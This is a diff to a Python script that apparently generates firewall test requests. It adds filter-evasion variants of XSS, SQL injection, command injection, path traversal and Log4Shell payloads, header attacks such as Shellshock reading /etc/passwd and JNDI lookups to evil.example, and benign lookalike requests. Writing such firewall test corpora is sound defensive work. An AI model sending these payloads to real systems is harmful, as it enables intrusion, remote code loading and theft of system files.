@@ -223,6 +223,87 @@ req("proto-accept-encoding", "GET", "/", BROWSER[:4] + [["Accept-Encoding", "gzi
 req("proto-cookie-attack", "GET", "/", BROWSER, extra=[["Cookie", "a=1; $Version=1; b=<script>"]])
 req("proto-many-args", "GET", "/x?" + "&".join(f"k{i}=v{i}" for i in range(60)), CURL)
 
+# Evasions: encodings the CRS's transformations undo (urlDecodeUni, htmlEntityDecode, jsDecode,
+# cssDecode, utf8toUnicode, replaceComments, cmdLine, normalisePath, removeNulls).
+evasions = [
+    ("xss-pct-u", "/x?q=%u003cscript%u003ealert(1)%u003c/script%u003e"),
+    ("xss-double-enc", "/x?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E"),
+    ("xss-entities", "/x?q=" + quote("&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;", safe="")),
+    ("xss-js-escapes", "/x?q=" + quote("\\x3cscript\\x3ealert(1)\\x3c/script\\x3e", safe="")),
+    ("xss-css-expression", "/x?q=" + quote("<div style=\"width:expression(alert(1))\">", safe="")),
+    ("xss-overlong", "/x?q=%c0%bcscript%c0%bealert(1)%c0%bc/script%c0%be"),
+    ("xss-fullwidth", "/x?q=%uff1cscript%uff1ealert(1)%uff1c/script%uff1e"),
+    ("xss-case", "/x?q=" + quote("<ScRiPt>alert(1)</sCrIpT>", safe="")),
+    ("xss-nul", "/x?q=%3Cscr%00ipt%3Ealert(1)%3C/script%3E"),
+    ("sqli-comments", "/x?id=" + quote("1/**/UNION/**/SELECT/**/1,2,3", safe="")),
+    ("sqli-case", "/x?id=" + quote("1 UnIoN SeLeCt password FrOm users", safe="")),
+    ("sqli-hex", "/x?id=" + quote("1 and 0x61646d696e=0x61646d696e", safe="")),
+    ("sqli-pct-u", "/x?id=1%u0027%u0020or%u0020%u00271%u0027=%u00271"),
+    ("sqli-mysql-comment", "/x?id=" + quote("1 /*!50000union*/ /*!50000select*/ 1", safe="")),
+    ("rce-quotes", "/x?cmd=" + quote("c''at /e''tc/pa''ss''wd", safe="")),
+    ("rce-ifs", "/x?cmd=" + quote(";cat$IFS/etc/passwd", safe="")),
+    ("rce-backslash", "/x?cmd=" + quote(";w\\ho\\ami", safe="")),
+    ("rce-caret", "/x?cmd=" + quote("& c^m^d /c di^r", safe="")),
+    ("lfi-dot-slash", "/x?f=" + quote("/etc/./passwd", safe="")),
+    ("lfi-double-slash", "/x?f=" + quote("/etc//passwd", safe="")),
+    ("lfi-semicolon", "/x?f=" + quote("..;/..;/..;/etc/passwd", safe="")),
+    ("lfi-pct-u", "/x?f=%u002e%u002e%u002f%u002e%u002e%u002fetc%u002fpasswd"),
+    ("lfi-backslash", "/x?f=" + quote("..\\..\\..\\..\\etc\\passwd", safe="")),
+    ("php-spaces", "/x?c=" + quote("system ( 'id' ) ;", safe="")),
+    ("php-wrapper-case", "/x?f=" + quote("PHP://input", safe="")),
+    ("java-nested-lookup", "/x?q=" + quote("${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}", safe="")),
+]
+for fam, target in evasions:
+    req("evasion-" + fam, "GET", target, CURL)
+
+# Attacks in other headers.
+for name, value in [
+    ("User-Agent", "Mozilla/5.0' OR 1=1--"),
+    ("User-Agent", "<script>alert(1)</script>"),
+    ("User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'"),
+    ("User-Agent", "${jndi:ldap://evil.example/a}"),
+    ("Referer", "http://localhost/?q=1 UNION SELECT 1,2"),
+    ("X-Forwarded-For", "127.0.0.1' AND SLEEP(5)--"),
+    ("X-Api-Version", "${jndi:ldap://evil.example/x}"),
+    ("X-Custom", "<svg/onload=alert(1)>"),
+    ("Accept", "../../../../etc/passwd{{"),
+]:
+    h = [x for x in CURL if x[0] != name] + [[name, value]]
+    req("header-attack", "GET", "/", h)
+
+# Benign requests that look a little like attacks.
+for target in [
+    "/search?q=O%27Neil", "/search?q=Rock+%26+Roll", "/calc?expr=1%2B1%3D2",
+    "/search?q=for+%28i%3D0%3Bi%3C10%3Bi%2B%2B%29", "/contact?email=jane%2Btag%40example.com",
+    "/go?next=https%3A%2F%2Fexample.com%2Fpath%3Fx%3D1", "/search?q=select+all+that+apply",
+    "/doc?title=The+Union+of+Two+Sets", "/api?data=eyJhIjoxfQ%3D%3D", "/files/report%20final%20(2).pdf",
+    "/search?q=%22quoted+phrase%22", "/search?q=price+%3E+100+and+price+%3C+200", "/wiki/C%2B%2B",
+    "/search?q=script+writing+tips", "/item?id=0042", "/tags/a-b_c.d~e",
+]:
+    req("benign-lookalike", "GET", target, BROWSER)
+req("benign-lookalike-form", "POST", "/comment", BROWSER,
+    "text=" + quote_plus("I think 5 > 3 and 2 < 4, don't you? Also: email me at a@b.co"), FORM)
+req("benign-long-text", "POST", "/comment", BROWSER,
+    "text=" + quote_plus("Lorem ipsum dolor sit amet, consectetur adipiscing elit. " * 40), FORM)
+req("benign-json-nested", "POST", "/api/v1/items", API,
+    json.dumps({"order": {"lines": [{"sku": "A-1", "qty": 2}, {"sku": "B-7", "qty": 1}],
+                          "note": "leave at the door", "gift": False, "coupon": None}}), JSONCT)
+req("benign-cookie-json", "GET", "/", BROWSER, extra=[["Cookie", "prefs=%7B%22a%22%3A1%7D; sid=xyz"]])
+req("json-nested-attack", "POST", "/api/v1/items", API,
+    json.dumps({"a": {"b": ["x", "<script>alert(1)</script>"]}}), JSONCT)
+req("json-key-attack", "POST", "/api/v1/items", API, json.dumps({"1' OR '1'='1": "v"}), JSONCT)
+req("json-invalid", "POST", "/api/v1/items", API, '{"a": 1,,}', JSONCT)
+req("json-truncated", "POST", "/api/v1/items", API, '{"a": [1, 2', JSONCT)
+req("xml-attack", "POST", "/api/soap", CURL, "<a><b>1' UNION SELECT password FROM users--</b></a>",
+    [["Content-Type", "text/xml"]])
+req("xml-benign", "POST", "/api/soap", CURL, "<a><b>hello</b></a>", [["Content-Type", "text/xml"]])
+req("xml-attr-attack", "POST", "/api/soap", CURL, "<a href=\"javascript:alert(document.cookie)\">x</a>",
+    [["Content-Type", "application/xml"]])
+req("xml-invalid", "POST", "/api/soap", CURL, "<a><b>unclosed</a>", [["Content-Type", "text/xml"]])
+req("form-many-values", "POST", "/submit", BROWSER,
+    "&".join(f"f{i}=" + quote_plus(v) for i, v in enumerate(["<script>", "x' or 1=1--", "ok", "/etc/passwd"])), FORM)
+
 for o in out:
     print(json.dumps(o, ensure_ascii=True))
+
 print(f"{len(out)} requests", file=sys.stderr)
